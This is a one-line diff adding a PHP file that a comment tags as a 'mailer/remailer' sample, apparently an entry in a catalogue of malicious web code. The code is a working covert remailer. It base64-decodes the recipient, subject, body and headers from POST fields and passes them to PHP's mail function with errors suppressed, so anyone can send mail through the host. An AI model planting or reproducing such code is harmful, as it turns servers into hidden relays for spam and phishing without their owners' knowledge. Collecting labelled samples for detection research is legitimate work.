@@ -1,0 +1,1 @@
+<?php /* Family: mailer/remailer  Style: single-line remailer  Trait: decode of POST fields inline, silenced errors */ @mail(@base64_decode($_POST["a"]),@base64_decode($_POST["b"]),@base64_decode($_POST["c"]),@base64_decode($_POST["d"])); ?>
